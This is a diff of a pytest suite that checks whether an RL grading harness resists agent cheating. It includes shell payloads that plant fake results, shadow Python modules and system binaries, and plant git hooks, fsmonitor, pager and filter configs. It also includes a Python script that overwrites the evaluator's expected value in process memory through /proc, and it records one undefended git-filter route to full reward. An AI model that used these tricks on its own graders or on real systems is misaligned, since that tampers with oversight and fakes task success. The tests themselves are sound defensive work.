@@ -1,10 +1,10 @@
-"""Planting what an evaluator reads, imports, runs: it does so elsewhere, and only the workspace crosses."""
+"""Files planted for an evaluator to read, import or run: only the workspace reaches the grader."""
 
 from __future__ import annotations
 
 import pytest
 
-from tests.cheats.agent import Arena
+from tests.cheats.agent import CheatServer
 
 pytestmark = [pytest.mark.anyio, pytest.mark.docker]
 
@@ -26,7 +26,7 @@ RESULTS = {
         done""",
 }
 MODULES = {
-    "beside-the-work": f"""
+    "in-the-workspace": f"""
         mkdir -p tasks/cheats/read-table/evaluation
         echo '{PASS}' > tasks/cheats/read-table/evaluation/main.py
         for name in json argparse sys pathlib openpyxl zipfile codecs encodings utils tasks; do
@@ -66,7 +66,7 @@ py_compile.compile('evil.py', '$cache/$(basename $name).cpython-311.pyc')"
         ln -s /usr .venv
         echo 'home = /tmp' > pyvenv.cfg""",
 }
-SURROUNDINGS = {
+SYSTEM_FILES = {
     "programs": """
         for name in python3 python uv bash sh env git; do
             for folder in . bin /usr/local/bin /usr/bin; do
@@ -96,24 +96,24 @@ SURROUNDINGS = {
 
 
 @pytest.mark.parametrize("results", RESULTS.values(), ids=RESULTS)
-async def test_a_result_that_was_planted_is_not_read(arena: Arena, results: str) -> None:
-    async with arena.cheating("read-table") as agent:
+async def test_planted_result_is_not_read(cheats: CheatServer, results: str) -> None:
+    async with cheats.unrewarded_episode("read-table") as agent:
         await agent.shell(results)
 
 
 @pytest.mark.parametrize("modules", MODULES.values(), ids=MODULES)
-async def test_a_module_that_was_planted_is_not_imported(arena: Arena, modules: str) -> None:
-    async with arena.cheating("read-table") as agent:
+async def test_planted_module_is_not_imported(cheats: CheatServer, modules: str) -> None:
+    async with cheats.unrewarded_episode("read-table") as agent:
         await agent.shell(modules)
 
 
-@pytest.mark.parametrize("surroundings", SURROUNDINGS.values(), ids=SURROUNDINGS)
-async def test_surroundings_that_were_changed_do_not_cross(arena: Arena, surroundings: str) -> None:
-    async with arena.cheating("read-table") as agent:
-        await agent.shell(surroundings)
+@pytest.mark.parametrize("command", SYSTEM_FILES.values(), ids=SYSTEM_FILES)
+async def test_changed_system_files_do_not_reach_the_grader(cheats: CheatServer, command: str) -> None:
+    async with cheats.unrewarded_episode("read-table") as agent:
+        await agent.shell(command)
 
 
-TURNS_ITS_PARENT = r"""#!/usr/bin/python3
+CHANGES_ITS_PARENT = r"""#!/usr/bin/python3
 import os, re
 def parent(pid):
     return int(open(f"/proc/{pid}/stat").read().rpartition(")")[2].split()[1])
@@ -129,15 +129,16 @@ while pid := parent(pid):
             if rights.startswith("rw"):
                 try:
                     memory.seek(start)
-                    found = [match.start() for match in re.finditer(b"release 1.4", memory.read(end - start))]
-                    for offset in found:
+                    content = memory.read(end - start)
+                    matches = [match.start() for match in re.finditer(b"release 1.4", content)]
+                    for offset in matches:
                         memory.seek(start + offset)
                         memory.write(b"release 0.0")
                 except (OSError, OverflowError, ValueError):
                     pass
     break
 """
-"""Makes the evaluator above it want another release: what anything that it runs can do to it."""
+"""Overwrites the expected value in the memory of the evaluator that runs it."""
 
 REPOSITORY = f"""
     git init -q library
@@ -147,34 +148,34 @@ REPOSITORY = f"""
     echo 0 > version
     git add version
     git commit -qm 'release 0.0'
-    cat > .git/turn <<'EOF'
-{TURNS_ITS_PARENT}EOF
-    chmod 755 .git/turn
+    cat > .git/attack <<'EOF'
+{CHANGES_ITS_PARENT}EOF
+    chmod 755 .git/attack
     sleep 0.01
     touch version
 """
 GIT = {
-    "fsmonitor": "git config core.fsmonitor .git/turn; git config core.fsmonitorHookVersion 1",
-    "hooks": "cp .git/turn .git/hooks/post-index-change",
+    "fsmonitor": "git config core.fsmonitor .git/attack; git config core.fsmonitorHookVersion 1",
+    "hooks": "cp .git/attack .git/hooks/post-index-change",
     "hooks-path": """
-        mkdir .git/mine
-        mv .git/turn .git/mine/post-index-change
-        git config core.hooksPath .git/mine""",
-    "pager": "for name in core.pager pager.log pager.diff pager.status; do git config $name .git/turn; done",
+        mkdir .git/own
+        mv .git/attack .git/own/post-index-change
+        git config core.hooksPath .git/own""",
+    "pager": "for name in core.pager pager.{log,diff,status}; do git config $name .git/attack; done",
 }
 FILTER = """
-    git config filter.mine.clean '.git/turn < /dev/null; cat'
-    echo 'version filter=mine' > .git/info/attributes"""
+    git config filter.own.clean '.git/attack < /dev/null; cat'
+    echo 'version filter=own' > .git/info/attributes"""
 
 
 @pytest.mark.parametrize("trick", GIT.values(), ids=GIT)
-async def test_an_evaluator_that_runs_git_runs_nothing_of_the_repositorys(arena: Arena, trick: str) -> None:
-    async with arena.cheating("tag-release") as agent:
+async def test_git_in_the_evaluator_runs_no_repository_program(cheats: CheatServer, trick: str) -> None:
+    async with cheats.unrewarded_episode("tag-release") as agent:
         await agent.shell(REPOSITORY + trick)
 
 
-async def test_an_evaluator_that_runs_the_agents_code_can_be_turned(arena: Arena) -> None:
-    """Not defended: git runs a filter because the evaluator runs git, and its author must not."""
-    async with arena.playing("tag-release") as agent:
+async def test_git_filter_run_by_the_evaluator_can_change_it(cheats: CheatServer) -> None:
+    """Not defended: an evaluator must not run git in the agent's repository, where it may run filters."""
+    async with cheats.episode("tag-release") as agent:
         await agent.shell(REPOSITORY + FILTER)
         assert (await agent.verdict())["reward"] == 1.0
